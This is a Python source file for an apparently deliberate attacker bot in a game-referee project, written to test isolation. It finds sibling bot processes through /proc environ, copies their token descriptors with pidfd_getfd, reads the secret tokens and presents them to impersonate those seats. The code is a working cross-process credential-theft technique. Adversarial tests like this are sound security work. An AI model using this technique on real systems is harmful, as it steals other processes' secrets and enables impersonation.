"""An attacking bot (issue 24): it steals other seats' tokens with pidfd_getfd(2) and presents them.

A thread scans /proc for the other bots of its referee (same FOXGEESE_ENDPOINT in
/proc/PID/environ, which also names FOXGEESE_TOKEN_FD), duplicates that descriptor out of the
process with pidfd_open + pidfd_getfd and reads it to its end with plain read() (which drained the
socket pair of old, so that the owner then read nothing). With `--present now` each stolen token
goes at once in a hello on a new connection (before its own hello); with `--present any-time` at
once too, while it plays or idles between games; with `--present at-turn` (the default) at this
bot's next turn, when the owner has had its chance to connect. Every step is logged to stderr as a
`THIEF ...` line. Meanwhile the bot plays its own seat with random moves.
"""

from __future__ import annotations

import argparse
import ctypes
import os
import platform
import queue
import sys
import threading
import time

import msgpack
import zmq

from foxgeese.players.random_player import RandomPlayer
from foxgeese.protocol.sdk import run_bot, token_from_environment

SYS_PIDFD_GETFD = {"x86_64": 438, "aarch64": 438}[platform.machine()]
_libc = ctypes.CDLL(None, use_errno=True)


def log(text: str) -> None:
    print(f"THIEF {text}", file=sys.stderr, flush=True)


def steal(pid: int, target_fd: int) -> str | None:
    """The text behind descriptor `target_fd` of process `pid`, read through a duplicate of it."""
    try:
        pidfd = os.pidfd_open(pid)
    except OSError:
        return None
    try:
        fd = _libc.syscall(SYS_PIDFD_GETFD, pidfd, target_fd, 0)
        if fd < 0:
            return None
        try:
            chunks = []
            while chunk := os.read(fd, 256):
                chunks.append(chunk)
            return b"".join(chunks).decode("ascii", "replace").strip()
        finally:
            os.close(fd)
    finally:
        os.close(pidfd)


def scan(endpoint: bytes, tried: set[int], stolen: queue.Queue[str], own: str) -> None:
    """Steals the token of every new process of this referee's bots (the supervisors have closed theirs)."""
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in tried:
            continue
        pid = int(name)
        try:
            with open(f"/proc/{pid}/environ", "rb") as source:
                environment = dict(item.split(b"=", 1) for item in source.read().split(b"\0") if b"=" in item)
        except OSError:
            continue
        fd = environment.get(b"FOXGEESE_TOKEN_FD")
        if environment.get(b"FOXGEESE_ENDPOINT") != endpoint or not fd or pid == os.getpid():
            continue
        tried.add(pid)
        token = steal(pid, int(fd))
        if token and token != own:
            log(f"stole a token from process {pid} with pidfd_getfd")
            stolen.put(token)


def present(token: str) -> None:
    """Says hello with `token` on a new connection and logs the answer."""
    context = zmq.Context.instance()
    socket = context.socket(zmq.DEALER)
    socket.setsockopt(zmq.LINGER, 0)
    socket.connect(os.environ["FOXGEESE_ENDPOINT"])
    socket.send(msgpack.packb({"v": 2, "type": "hello", "token": token, "name": "thief", "author": "",
                               "version": "1", "variants": []}))
    answer = msgpack.unpackb(socket.recv(), raw=False) if socket.poll(3000) else {"type": "nothing"}
    log(f"presented a stolen token: {answer['type']} {answer.get('reason', '')}".rstrip())
    socket.close()


class Thief(RandomPlayer):
    """Random moves; at each turn it first presents the tokens stolen since the last one."""

    def __init__(self, stolen: queue.Queue[str]) -> None:
        super().__init__(seed=2)
        self.stolen = stolen

    def choose(self, game, clock):  # noqa: ANN001, ANN201
        while not self.stolen.empty():
            present(self.stolen.get())
        return super().choose(game, clock)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--present", choices=("now", "at-turn", "any-time"), default="at-turn")
    args = parser.parse_args()
    endpoint = os.environ["FOXGEESE_ENDPOINT"].encode()
    own = token_from_environment()  # its own token first: the referee launched it like any bot
    stolen: queue.Queue[str] = queue.Queue()
    presented = threading.Event()

    def hunt() -> None:
        tried: set[int] = set()
        while True:
            scan(endpoint, tried, stolen, own)
            while args.present != "at-turn" and not stolen.empty():
                present(stolen.get())
                presented.set()
            time.sleep(0.005)

    threading.Thread(target=hunt, daemon=True).start()
    if args.present == "now":
        presented.wait(10)  # the theft first, then its own hello
    run_bot(Thief(stolen) if args.present == "at-turn" else RandomPlayer(seed=2), name="thief", token=own)
    return 0


if __name__ == "__main__":
    sys.exit(main())
